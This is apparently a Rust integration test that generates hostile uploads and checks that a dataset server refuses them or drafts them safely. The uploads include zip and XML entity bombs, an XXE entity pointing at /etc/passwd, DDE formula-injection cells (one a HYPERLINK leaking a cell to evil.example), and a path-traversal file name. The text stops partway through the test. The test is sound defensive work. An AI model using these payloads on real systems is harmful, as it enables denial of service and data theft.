//! Hostile uploads (issue #9): decompression bombs, XML entity expansion,
//! corrupt and truncated workbooks, absurd CSV shapes, binary garbage, files
//! that lie about their type, formula injection and hostile file names, all
//! generated here. Each one gets a clear 4xx (the standard JSON error naming
//! the file and what is wrong) or a draft whose report says what was odd;
//! never a 5xx or a hang. After every upload the server still answers
//! `/healthz`, nothing of that dataset is public, and its peak memory stays
//! under [`PEAK_RSS_MIB`].

use crate::support::{ADMIN_TOKEN, Server};
use reqwest::StatusCode;
use serde_json::Value;
use std::io::{Cursor, Read, Write};
use std::time::{Duration, Instant};
use zip::write::SimpleFileOptions;

/// Peak resident memory allowed to the server over the whole run. Ingest
/// refuses tables whose estimated working set exceeds 1 GiB
/// (`Limits::max_table_bytes`); the largest upload here is ~100 MB and is
/// held once as the request body; the idle server takes ~100 MiB. 1.5 GiB
/// leaves room for allocator slack, and is far below what any of these files
/// asked for before the guards (from 6 GiB for 10 M rows to terabytes for the
/// sparse and XLS dimension bombs).
const PEAK_RSS_MIB: u64 = 1536;

/// What a file must get.
#[derive(Debug, Clone, Copy)]
enum Expect {
    /// A 4xx with one of these error codes.
    Refused(&'static [&'static str]),
    /// A 201 draft whose report carries at least one warning.
    DraftWithWarning,
    /// A 201 draft (a legitimate, if odd, table).
    Draft,
    /// Either a draft or a 4xx with one of these codes (limits may decide).
    DraftOr(&'static [&'static str]),
}

struct Case {
    what: &'static str,
    file_name: String,
    bytes: Vec<u8>,
    expect: Expect,
}

fn case(what: &'static str, file_name: &str, bytes: Vec<u8>, expect: Expect) -> Case {
    Case {
        what,
        file_name: file_name.to_string(),
        bytes,
        expect,
    }
}

// ---------------------------------------------------------------- generators

/// A small deterministic pseudo-random byte stream (xorshift).
fn noise(len: usize, seed: u64) -> Vec<u8> {
    let mut x = seed | 1;
    (0..len)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            (x >> 24) as u8
        })
        .collect()
}

/// A real workbook: a header and `rows` data rows of text and numbers.
fn real_xlsx(rows: u32) -> Vec<u8> {
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    sheet.write_string(0, 0, "名称").unwrap();
    sheet.write_string(0, 1, "金额").unwrap();
    for r in 1..=rows {
        sheet.write_string(r, 0, format!("项目{r}")).unwrap();
        sheet.write_number(r, 1, f64::from(r) * 1.5).unwrap();
    }
    book.save_to_buffer().unwrap()
}

fn deflated() -> SimpleFileOptions {
    SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .compression_level(Some(1))
}

/// The entries of an archive, in order.
fn unzip(bytes: &[u8]) -> Vec<(String, Vec<u8>)> {
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    (0..archive.len())
        .map(|i| {
            let mut f = archive.by_index(i).unwrap();
            let mut data = Vec::new();
            f.read_to_end(&mut data).unwrap();
            (f.name().unwrap().to_string(), data)
        })
        .collect()
}

/// A copy of a workbook with some entries replaced (or added).
fn rezip(base: &[u8], replace: &[(&str, Vec<u8>)]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let mut entries = unzip(base);
    for (name, data) in replace {
        match entries.iter_mut().find(|(n, _)| n == name) {
            Some(e) => e.1 = data.clone(),
            None => entries.push((name.to_string(), data.clone())),
        }
    }
    for (name, data) in entries {
        w.start_file(name, deflated()).unwrap();
        w.write_all(&data).unwrap();
    }
    w.finish().unwrap().into_inner()
}

/// A workbook whose `entry` is `head`, then `chunk` `times` times, then
/// `tail`, written straight into the compressor (never held whole).
fn xlsx_streamed(
    entry: &str,
    head: &str,
    chunk: &[u8],
    times: usize,
    tail: &str,
    level: i64,
) -> Vec<u8> {
    let base = real_xlsx(1);
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, data) in unzip(&base) {
        if name == entry {
            continue;
        }
        w.start_file(name, deflated()).unwrap();
        w.write_all(&data).unwrap();
    }
    w.start_file(entry, deflated().compression_level(Some(level)))
        .unwrap();
    w.write_all(head.as_bytes()).unwrap();
    for _ in 0..times {
        w.write_all(chunk).unwrap();
    }
    w.write_all(tail.as_bytes()).unwrap();
    w.finish().unwrap().into_inner()
}

const SHEET_HEAD: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>"#;
const SHEET_TAIL: &str = "</sheetData></worksheet>";

/// Rewrites the uncompressed size an archive declares for `entry` (central
/// directory and local header) to `size`: a zip that lies about its size.
fn lie_about_size(mut bytes: Vec<u8>, entry: &str, size: u32) -> Vec<u8> {
    let eocd = bytes
        .windows(4)
        .rposition(|w| w == b"PK\x05\x06")
        .expect("end of central directory");
    let le32 = |b: &[u8], at: usize| u32::from_le_bytes(b[at..at + 4].try_into().unwrap());
    let le16 = |b: &[u8], at: usize| u16::from_le_bytes(b[at..at + 2].try_into().unwrap());
    let count = le16(&bytes, eocd + 10) as usize;
    let mut at = le32(&bytes, eocd + 16) as usize;
    for _ in 0..count {
        assert_eq!(&bytes[at..at + 4], b"PK\x01\x02");
        let name_len = le16(&bytes, at + 28) as usize;
        let extra = le16(&bytes, at + 30) as usize;
        let comment = le16(&bytes, at + 32) as usize;
        let local = le32(&bytes, at + 42) as usize;
        if &bytes[at + 46..at + 46 + name_len] == entry.as_bytes() {
            bytes[at + 24..at + 28].copy_from_slice(&size.to_le_bytes());
            bytes[local + 22..local + 26].copy_from_slice(&size.to_le_bytes());
        }
        at += 46 + name_len + extra + comment;
    }
    bytes
}

/// A zip of the given entries (the first stored, like ODF's `mimetype`).
fn zip_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (i, (name, data)) in entries.iter().enumerate() {
        let options = if i == 0 {
            SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored)
        } else {
            deflated()
        };
        w.start_file(*name, options).unwrap();
        w.write_all(data).unwrap();
    }
    w.finish().unwrap().into_inner()
}

const ODS_HEAD: &str = r#"<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body><office:spreadsheet><table:table table:name="Sheet1">"#;
const ODS_TAIL: &str =
    "</table:table></office:spreadsheet></office:body></office:document-content>";
const ODS_MANIFEST: &str = r#"<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>"#;

fn ods(content: &str) -> Vec<u8> {
    zip_of(&[
        (
            "mimetype",
            b"application/vnd.oasis.opendocument.spreadsheet",
        ),
        ("META-INF/manifest.xml", ODS_MANIFEST.as_bytes()),
        ("content.xml", content.as_bytes()),
    ])
}

/// An ODS whose content.xml is a ~1 GiB run of identical rows.
fn ods_bomb() -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    w.start_file(
        "mimetype",
        SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored),
    )
    .unwrap();
    w.write_all(b"application/vnd.oasis.opendocument.spreadsheet")
        .unwrap();
    w.start_file("META-INF/manifest.xml", deflated()).unwrap();
    w.write_all(ODS_MANIFEST.as_bytes()).unwrap();
    w.start_file("content.xml", deflated()).unwrap();
    w.write_all(ODS_HEAD.as_bytes()).unwrap();
    let row = r#"<table:table-row><table:table-cell office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell><table:table-cell office:value-type="float" office:value="2"><text:p>2</text:p></table:table-cell></table:table-row>"#;
    let chunk = row.repeat((1 << 20) / row.len());
    for _ in 0..1024 {
        w.write_all(chunk.as_bytes()).unwrap();
    }
    w.write_all(ODS_TAIL.as_bytes()).unwrap();
    w.finish().unwrap().into_inner()
}

/// Billion laughs: ten levels of ten-fold entity references (10 GB of "lol").
fn laughs_dtd(root: &str) -> String {
    let mut dtd = format!(r#"<!DOCTYPE {root} [<!ENTITY l0 "lol">"#);
    for i in 1..10 {
        let refs = format!("&l{};", i - 1).repeat(10);
        dtd.push_str(&format!(r#"<!ENTITY l{i} "{refs}">"#));
    }
    dtd.push_str("]>");
    dtd
}

// BIFF/OLE builders for hostile .xls files.

fn biff_record(typ: u16, data: &[u8]) -> Vec<u8> {
    let mut r = typ.to_le_bytes().to_vec();
    r.extend((data.len() as u16).to_le_bytes());
    r.extend_from_slice(data);
    r
}

/// A BIFF8 Workbook stream with one sheet of number cells and, if given, a
/// DIMENSIONS record (first row, last row + 1, first column, last column + 1).
fn biff(cells: &[(u16, u16, f64)], dims: Option<(u32, u32, u16, u16)>) -> Vec<u8> {
    let bof = |dt: u16| {
        let mut d = vec![0x00, 0x06];
        d.extend(dt.to_le_bytes());
        d.extend([0u8; 12]);
        biff_record(0x0809, &d)
    };
    let mut out = bof(0x0005);
    out.extend(biff_record(0x0042, &1200u16.to_le_bytes()));
    let at = out.len();
    let mut bs = vec![0u8; 4];
    bs.extend([0, 0, 6, 0]);
    bs.extend_from_slice(b"Sheet1");
    out.extend(biff_record(0x0085, &bs));
    out.extend(biff_record(0x000A, &[]));
    let pos = out.len() as u32;
    out[at + 4..at + 8].copy_from_slice(&pos.to_le_bytes());
    out.extend(bof(0x0010));
    if let Some((rf, rl, cf, cl)) = dims {
        let mut d = rf.to_le_bytes().to_vec();
        d.extend(rl.to_le_bytes());
        d.extend(cf.to_le_bytes());
        d.extend(cl.to_le_bytes());
        d.extend([0, 0]);
        out.extend(biff_record(0x0200, &d));
    }
    for &(r, c, v) in cells {
        let mut d = r.to_le_bytes().to_vec();
        d.extend(c.to_le_bytes());
        d.extend(0u16.to_le_bytes());
        d.extend(v.to_le_bytes());
        out.extend(biff_record(0x0203, &d));
    }
    out.extend(biff_record(0x000A, &[]));
    out
}

/// An OLE compound file (512-byte sectors) holding `stream` as `Workbook`.
/// `loop_directory`: the directory's sector chain points back at itself.
fn cfb(mut stream: Vec<u8>, loop_directory: bool) -> Vec<u8> {
    const END: u32 = 0xFFFF_FFFE;
    const FREE: u32 = 0xFFFF_FFFF;
    let len = stream.len().max(4096);
    stream.resize(len.div_ceil(512) * 512, 0);
    let sectors = stream.len() / 512;
    let mut fat = vec![0xFFFF_FFFD, if loop_directory { 1 } else { END }];
    for i in 0..sectors {
        fat.push(if i + 1 == sectors { END } else { 3 + i as u32 });
    }
    fat.resize(128, FREE);
    let mut header = vec![0u8; 512];
    header[..8].copy_from_slice(&[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]);
    let put16 =
        |h: &mut Vec<u8>, at: usize, v: u16| h[at..at + 2].copy_from_slice(&v.to_le_bytes());
    let put32 =
        |h: &mut Vec<u8>, at: usize, v: u32| h[at..at + 4].copy_from_slice(&v.to_le_bytes());
    put16(&mut header, 24, 0x3E);
    put16(&mut header, 26, 3);
    put16(&mut header, 28, 0xFFFE);
    put16(&mut header, 30, 9);
    put16(&mut header, 32, 6);
    put32(&mut header, 44, 1);
    put32(&mut header, 48, 1);
    put32(&mut header, 56, 4096);
    put32(&mut header, 60, END);
    put32(&mut header, 68, END);
    for i in 0..109 {
        put32(&mut header, 76 + i * 4, if i == 0 { 0 } else { FREE });
    }
    let entry = |name: &str, typ: u8, start: u32, size: u32| {
        let mut e = vec![0u8; 128];
        let units: Vec<u16> = name.encode_utf16().chain([0]).collect();
        for (i, u) in units.iter().enumerate() {
            e[i * 2..i * 2 + 2].copy_from_slice(&u.to_le_bytes());
        }
        e[64..66].copy_from_slice(&((units.len() * 2) as u16).to_le_bytes());
        e[66] = typ;
        e[68..72].copy_from_slice(&FREE.to_le_bytes());
        e[72..76].copy_from_slice(&FREE.to_le_bytes());
        e[76..80].copy_from_slice(&(if typ == 5 { 1 } else { FREE }).to_le_bytes());
        e[116..120].copy_from_slice(&start.to_le_bytes());
        e[120..124].copy_from_slice(&size.to_le_bytes());
        e
    };
    let mut dir = entry("Root Entry", 5, END, 0);
    dir.extend(entry("Workbook", 2, 2, stream.len() as u32));
    dir.resize(512, 0);
    let mut out = header;
    for id in &fat {
        out.extend(id.to_le_bytes());
    }
    out.extend(dir);
    out.extend(stream);
    out
}

fn parquet_file() -> Vec<u8> {
    use arrow::array::Int64Array;
    use arrow::record_batch::RecordBatch;
    let batch = RecordBatch::try_from_iter([(
        "n",
        std::sync::Arc::new(Int64Array::from(vec![1, 2, 3])) as _,
    )])
    .unwrap();
    let mut out = Vec::new();
    let mut w = parquet::arrow::ArrowWriter::try_new(&mut out, batch.schema(), None).unwrap();
    w.write(&batch).unwrap();
    w.close().unwrap();
    out
}

fn cases() -> Vec<Case> {
    use Expect::*;
    let mut v = Vec::new();
    let small_csv = "名称,数量\n甲,1\n乙,2\n丙,3\n".as_bytes().to_vec();

    // --- zipped workbooks
    let row = "<row><c><v>1</v></c><c><v>2</v></c><c><v>3</v></c><c><v>4</v></c></row>";
    let mib_of_rows = row.repeat((1 << 20) / row.len());
    let bomb = xlsx_streamed(
        "xl/worksheets/sheet1.xml",
        SHEET_HEAD,
        mib_of_rows.as_bytes(),
        1024,
        SHEET_TAIL,
        1,
    );
    v.push(case(
        "XLSX zip bomb: 1 GiB sheet XML deflated to a few MB",
        "bomb.xlsx",
        bomb.clone(),
        Refused(&["workbook_too_large", "zip_bomb"]),
    ));
    v.push(case(
        "XLSX zip bomb declaring 4 KiB for its 1 GiB sheet",
        "bomb-lie.xlsx",
        lie_about_size(bomb, "xl/worksheets/sheet1.xml", 4096),
        Refused(&["zip_bomb"]),
    ));
    v.push(case(
        "XLSX whose sheet is 300 MiB of white space between two rows (~1000:1)",
        "ratio.xlsx",
        xlsx_streamed(
            "xl/worksheets/sheet1.xml",
            &format!("{SHEET_HEAD}{row}"),
            &vec![b' '; 1 << 20],
            300,
            &format!("{row}{SHEET_TAIL}"),
            9,
        ),
        Refused(&["zip_bomb"]),
    ));
    let base = real_xlsx(3);
    let sst_head = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>"#;
    let sst_body = r#"<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>&l9;</t></si></sst>"#;
    v.push(case(
        "billion laughs in sharedStrings.xml",
        "laughs-sst.xlsx",
        rezip(
            &base,
            &[(
                "xl/sharedStrings.xml",
                format!("{sst_head}{}{sst_body}", laughs_dtd("sst")).into_bytes(),
            )],
        ),
        Refused(&["xml_entities"]),
    ));
    v.push(case(
        "billion laughs in sheet1.xml (inline string)",
        "laughs-sheet.xlsx",
        rezip(
            &base,
            &[(
                "xl/worksheets/sheet1.xml",
                format!(
                    r#"{sst_head}{}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&l9;</t></is></c></row></sheetData></worksheet>"#,
                    laughs_dtd("worksheet")
                )
                .into_bytes(),
            )],
        ),
        Refused(&["xml_entities"]),
    ));
    v.push(case(
        "external entity (XXE) to /etc/passwd in sharedStrings.xml",
        "xxe.xlsx",
        rezip(
            &base,
            &[(
                "xl/sharedStrings.xml",
                format!(
                    r#"{sst_head}<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>&xxe;</t></si></sst>"#
                )
                .into_bytes(),
            )],
        ),
        Refused(&["xml_entities"]),
    ));
    let real = real_xlsx(3000);
    v.push(case(
        "truncated XLSX (first half of a real one)",
        "truncated.xlsx",
        real[..real.len() / 2].to_vec(),
        Refused(&["unreadable_workbook"]),
    ));
    let mut corrupt = real.clone();
    let sheet_at = corrupt
        .windows(24)
        .position(|w| w == b"xl/worksheets/sheet1.xml")
        .unwrap();
    for (i, b) in noise(400, 7).into_iter().enumerate() {
        corrupt[sheet_at + 200 + i] ^= b | 1;
    }
    v.push(case(
        "corrupt XLSX (bytes flipped inside the sheet's deflate stream)",
        "corrupt.xlsx",
        corrupt,
        Refused(&["unreadable_workbook"]),
    ));
    // 100 000 unique shared strings of ~1 KB, every one used.
    let mut sst = String::from(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="100001" uniqueCount="100001"><si><t>说明</t></si>"#,
    );
    let alphabet: Vec<char> = "的一是在不了有和人这中大为上个国我以要他时来用们生到作地于出就分对成会可主发年动同工也能下过子说产种面而方后多定行学法所民得经十三之进着等部度家电力里如水化高自二理起小物现实加量都两体制机当使点从业本去把性好应开它合还因由其些然前外天政四日那社义事平形相全表间样与关各重新线内数正心反你明看原又么利比或但质气第向道命此变条只没结解问意建月公无系军很情者最立代想已通并提直题党程展五果料象员革位入常文总次品式活设及管特件长求老头基资边流路级少图山统接知较将组见计别她手角期根论运农指几九区强放决西被干做必战先回则任取据处理府研质".chars().collect();
    let mut sheet = String::from(SHEET_HEAD);
    sheet.push_str(r#"<row r="1"><c r="A1" t="s"><v>0</v></c></row>"#);
    for i in 1..=100_000usize {
        let text: String = noise(330, i as u64)
            .iter()
            .map(|b| alphabet[*b as usize % alphabet.len()])
            .collect();
        sst.push_str(&format!("<si><t>{i:06}{text}</t></si>"));
        sheet.push_str(&format!(
            r#"<row r="{}"><c r="A{}" t="s"><v>{i}</v></c></row>"#,
            i + 1,
            i + 1
        ));
    }
    sst.push_str("</sst>");
    sheet.push_str(SHEET_TAIL);
    v.push(case(
        "huge shared-string table: 100 000 unique ~1 KB strings",
        "huge-sst.xlsx",
        rezip(
            &base,
            &[
                ("xl/sharedStrings.xml", sst.into_bytes()),
                ("xl/worksheets/sheet1.xml", sheet.into_bytes()),
            ],
        ),
        DraftOr(&["table_too_large", "zip_bomb", "workbook_too_large"]),
    ));
    let mut book = rust_xlsxwriter::Workbook::new();
    for s in 0..3000 {
        let sheet = book.add_worksheet();
        sheet.write_string(0, 0, "名称").unwrap();
        sheet.write_number(1, 0, f64::from(s)).unwrap();
    }
    v.push(case(
        "XLSX with 3 000 sheets",
        "sheets.xlsx",
        book.save_to_buffer().unwrap(),
        Refused(&["workbook_too_large"]),
    ));
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    sheet.write_string(0, 0, "名称").unwrap();
    sheet.write_string(1_048_575, 16_383, "远").unwrap();
    v.push(case(
        "sparse XLSX: cells at A1 and XFD1048576 (17 G cells as a rectangle)",
        "corners.xlsx",
        book.save_to_buffer().unwrap(),
        DraftOr(&["no_table_found", "table_too_large"]),
    ));
    v.push(case(
        "merged-cell bomb: one merge over A1:NTP1048576",
        "merge-bomb.xlsx",
        rezip(
            &base,
            &[(
                "xl/worksheets/sheet1.xml",
                format!(
                    r#"{SHEET_HEAD}<row r="1"><c r="A1" t="inlineStr"><is><t>名称</t></is></c><c r="B1" t="inlineStr"><is><t>数量</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>甲</t></is></c><c r="B2"><v>1</v></c></row><row r="1048576"><c r="A1048576" t="inlineStr"><is><t>乙</t></is></c><c r="B1048576"><v>2</v></c></row></sheetData><mergeCells count="1"><mergeCell ref="A1:NTP1048576"/></mergeCells></worksheet>"#
                )
                .into_bytes(),
            )],
        ),
        DraftOr(&["no_table_found", "table_too_large"]),
    ));
    let long = "长".repeat(330_000);
    v.push(case(
        "merged-cell text bomb: a 1 MB value merged over A1:J100000",
        "merge-text.xlsx",
        rezip(
            &base,
            &[(
                "xl/worksheets/sheet1.xml",
                format!(
                    r#"{SHEET_HEAD}<row r="1"><c r="A1" t="inlineStr"><is><t>{long}</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>名称</t></is></c><c r="K2" t="inlineStr"><is><t>数量</t></is></c></row><row r="100000"><c r="A100000" t="inlineStr"><is><t>甲</t></is></c><c r="K100000"><v>1</v></c></row></sheetData><mergeCells count="1"><mergeCell ref="A1:J100000"/></mergeCells></worksheet>"#
                )
                .into_bytes(),
            )],
        ),
        DraftOr(&["no_table_found", "table_too_large"]),
    ));
    v.push(case(
        "sharedStrings.xml claiming a trillion unique strings",
        "sst-count.xlsx",
        rezip(
            &base,
            &[(
                "xl/sharedStrings.xml",
                format!(
                    r#"{sst_head}<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1000000000000"><si><t>名称</t></si></sst>"#
                )
                .into_bytes(),
            )],
        ),
        Refused(&["unreadable_workbook"]),
    ));
    let many: Vec<(String, Vec<u8>)> = (0..20_000)
        .map(|i| (format!("xl/media/pad{i}.bin"), vec![b'x'; 8]))
        .collect();
    let many_refs: Vec<(&str, Vec<u8>)> =
        many.iter().map(|(n, d)| (n.as_str(), d.clone())).collect();
    v.push(case(
        "XLSX with 20 000 archive entries",
        "entries.xlsx",
        rezip(&base, &many_refs),
        Refused(&["workbook_too_large"]),
    ));
    v.push(case(
        "empty ZIP archive named .xlsx",
        "empty.xlsx",
        {
            let mut e = b"PK\x05\x06".to_vec();
            e.extend([0u8; 18]);
            e
        },
        Refused(&["unsupported_file"]),
    ));
    v.push(case(
        "ZIP of a text file named .xlsx",
        "notes.xlsx",
        zip_of(&[("readme.txt", b"not a workbook")]),
        Refused(&["unsupported_file"]),
    ));

    // --- ODS
    v.push(case(
        "ODS bomb: 1 GiB content.xml",
        "bomb.ods",
        ods_bomb(),
        Refused(&["workbook_too_large", "zip_bomb"]),
    ));
    v.push(case(
        "ODS repeat bomb: a row repeated 1 M times × 16 384 repeated cells",
        "repeat.ods",
        ods(&format!(
            r#"{ODS_HEAD}<table:table-row><table:table-cell office:value-type="string"><text:p>名称</text:p></table:table-cell></table:table-row><table:table-row table:number-rows-repeated="1000000"><table:table-cell table:number-columns-repeated="16384" office:value-type="string"><text:p>炸弹</text:p></table:table-cell></table:table-row>{ODS_TAIL}"#
        )),
        Refused(&["workbook_too_large"]),
    ));

    // --- XLS
    v.push(case(
        ".xls that is really an HTML table",
        "export.xls",
        "<html><head><meta charset=\"utf-8\"></head><body><table><tr><td>名称</td><td>数量</td></tr><tr><td>甲</td><td>1</td></tr></table></body></html>".as_bytes().to_vec(),
        Refused(&["unsupported_file"]),
    ));
    let mut ole = vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
    ole.extend(noise(8192, 11));
    v.push(case(
        ".xls: OLE signature then garbage",
        "garbage.xls",
        ole,
        Refused(&["unreadable_workbook"]),
    ));
    v.push(case(
        ".xls whose DIMENSIONS record declares 4 G rows × 65 535 columns",
        "dimensions.xls",
        cfb(biff(&[(0, 0, 1.0)], Some((0, u32::MAX, 0, 0xFFFF))), false),
        Refused(&["workbook_too_large"]),
    ));
    v.push(case(
        ".xls with cells at A1 and (65535, 65535): 4 G cells as a rectangle",
        "corners.xls",
        cfb(biff(&[(0, 0, 1.0), (65535, 65535, 2.0)], None), false),
        Refused(&["workbook_too_large"]),
    ));
    v.push(case(
        ".xls whose directory sector chain loops",
        "loop.xls",
        cfb(biff(&[(0, 0, 1.0)], None), true),
        Refused(&["unreadable_workbook"]),
    ));

    // --- delimited text
    let mut wide = (0..100_000)
        .map(|i| format!("c{i}"))
        .collect::<Vec<_>>()
        .join(",");
    wide.push('\n');
    wide.push_str(&vec!["1"; 100_000].join(","));
    wide.push('\n');
    v.push(case(
        "CSV with 100 000 columns",
        "wide.csv",
        wide.into_bytes(),
        Refused(&["too_many_columns"]),
    ));
    let mut line = b"a\n".to_vec();
    line.extend(std::iter::repeat_n(b'x', 100 << 20));
    line.push(b'\n');
    v.push(case(
        "CSV with one 100 MB line",
        "line.csv",
        line,
        Refused(&["cell_too_long"]),
    ));
    let mut tall = b"n\n".to_vec();
    tall.extend("1\n".repeat(10_000_000).as_bytes());
    v.push(case(
        "CSV with 10 million tiny rows",
        "tall.csv",
        tall,
        DraftOr(&["table_too_large"]),
    ));
    let mut header = vec![b'x'; 10 << 20];
    header.extend(b",b\n1,2\n");
    v.push(case(
        "CSV with a 10 MB header cell",
        "header.csv",
        header,
        Refused(&["cell_too_long"]),
    ));
    let mut png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x10\0\0\0\x10\x08\x06\0\0\0".to_vec();
    png.extend(noise(4000, 5));
    v.push(case(
        "a PNG image named .csv",
        "photo.csv",
        png,
        Refused(&["unsupported_file"]),
    ));
    let mut nul = "名称,数量\n甲,1\n乙".as_bytes().to_vec();
    nul.extend(b"\0\0\0,2\n");
    v.push(case(
        "CSV with NUL bytes",
        "nul.csv",
        nul,
        Refused(&["unsupported_file"]),
    ));
    v.push(case(
        "an XLSX named .csv (lying extension)",
        "report.csv",
        real_xlsx(5),
        DraftWithWarning,
    ));
    v.push(case(
        "a CSV named .xlsx (lying extension)",
        "report.xlsx",
        small_csv.clone(),
        DraftWithWarning,
    ));
    let mut utf16 = Vec::new();
    let text = "名称,数量,备注\n甲,1,a\n乙,2,b\n丙,3,c\n丁,4,d\n";
    for u in text.encode_utf16() {
        utf16.extend(u.to_le_bytes());
    }
    v.push(case(
        "UTF-16LE CSV without a BOM",
        "utf16.csv",
        utf16,
        Draft,
    ));
    v.push(case(
        "a file that is only a UTF-8 BOM",
        "bom.csv",
        b"\xEF\xBB\xBF".to_vec(),
        Refused(&["no_table_found"]),
    ));
    let mut ragged = String::from("名称,数量\n");
    for i in 0..200 {
        let n = [1, 2, 40, 3, 250, 2][i % 6];
        let fields: Vec<String> = (0..n).map(|j| format!("{}", i * 1000 + j)).collect();
        ragged.push_str(&fields.join(","));
        ragged.push('\n');
    }
    v.push(case(
        "CSV whose rows have wildly varying field counts",
        "ragged.csv",
        ragged.into_bytes(),
        DraftOr(&["no_table_found"]),
    ));
    v.push(case(
        "formula-injection cells (=HYPERLINK, +cmd, @SUM, -cmd)",
        "formulas.csv",
        FORMULAS.as_bytes().to_vec(),
        Draft,
    ));
    v.push(case(
        "a real Parquet file (passed through with the same checks)",
        "data.parquet",
        parquet_file(),
        Draft,
    ));
    v.push(case(
        "a .parquet that is not Parquet",
        "fake.parquet",
        noise(10_000, 3),
        Refused(&["unsupported_file"]),
    ));
    v.push(case(
        "path traversal in the file name",
        "../../etc/passwd.csv",
        small_csv.clone(),
        Draft,
    ));
    v.push(case(
        "control characters and an ANSI escape in the file name",
        "bad\u{7}\u{1b}[31mname\r\n\t.csv",
        small_csv,
        Draft,
    ));
    v
}

const FORMULAS: &str = "名称,链接,命令,求和,备注\n\
甲,\"=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2,\"\"点击查看\"\")\",+cmd|' /C calc'!A0,@SUM(1+1)*cmd|' /C calc'!A0,-2+3+cmd|' /C calc'!A0\n\
乙,=1+1,=cmd|' /C notepad'!A1,@SUM(A1:A2),\t=1+2\n";

// ---------------------------------------------------------------------- test

struct Outcome {
    file: String,
    status: u16,
    code: String,
    secs: f64,
    peak: u64,
}

/// Uploads with the file name URL-encoded (hostile names included).
async fn upload(server: &Server, slug: &str, file_name: &str, bytes: Vec<u8>) -> reqwest::Response {
    server
        .client
        .post(server.url(&format!("/api/v1/datasets/{slug}/uploads")))
        .query(&[("filename", file_name)])
        .bearer_auth(ADMIN_TOKEN)
        .timeout(Duration::from_secs(120))
        .body(bytes)
        .send()
        .await
        .unwrap_or_else(|e| panic!("upload of {file_name:?} failed or hung: {e}"))
}

#[tokio::test]
async fn hostile_uploads_are_refused_or_drafted_within_bounded_memory() {
    let server = Server::start().await;
    let generated = Instant::now();
    let cases = cases();
    eprintln!(
        "generated {} hostile files in {:.1} s",
        cases.len(),
        generated.elapsed().as_secs_f64()
    );
    assert!(cases.len() >= 20);
    let mut outcomes = Vec::new();
    let mut formulas_slug = None;
    for (i, c) in cases.into_iter().enumerate() {
        let slug = format!("hostile-{i:02}");
        server.create_dataset(&slug, c.what).await;
        let size = c.bytes.len();
        let started = Instant::now();
        let r = upload(&server, &slug, &c.file_name, c.bytes).await;
        let secs = started.elapsed().as_secs_f64();
        let status = r.status();
        let body: Value = r
            .json()
            .await
            .unwrap_or_else(|e| panic!("{}: the answer is not JSON: {e}", c.what));
        let code = body["error"]["code"].as_str().unwrap_or("").to_string();
        let message = body["error"]["message"].as_str().unwrap_or("").to_string();
        eprintln!(
            "{:>3} {:<28} {:>11} B → {} {code} ({secs:.1} s){}",
            i,
            format!("{:?}", c.file_name),
            size,
            status.as_u16(),
            if message.is_empty() {
                String::new()
            } else {
                format!("\n      {message}")
            }
        );
        assert!(!status.is_server_error(), "{}: {status} {body}", c.what);
        match c.expect {
            Expect::Refused(codes) => {
                assert!(
                    status.is_client_error() && codes.contains(&code.as_str()),
                    "{}: expected one of {codes:?}, got {status} {body}",
                    c.what
                );
            }
            Expect::Draft | Expect::DraftWithWarning => {
                assert_eq!(status, StatusCode::CREATED, "{}: {body}", c.what);
            }
            Expect::DraftOr(codes) => {
                assert!(
                    status == StatusCode::CREATED
                        || status.is_client_error() && codes.contains(&code.as_str()),
                    "{}: expected a draft or one of {codes:?}, got {status} {body}",
                    c.what
                );
            }
        }
        if status.is_client_error() {
            // The standard error shape, saying what is wrong and where.
            assert!(
                !code.is_empty() && !message.is_empty(),
                "{}: {body}",
                c.what
            );
            let named = c.file_name.rsplit('/').next().unwrap_or(&c.file_name);
            assert!(
                message.contains(named) || body["error"]["details"]["file"] == c.file_name,
                "{}: the message does not name the file: {message}",
                c.what
            );
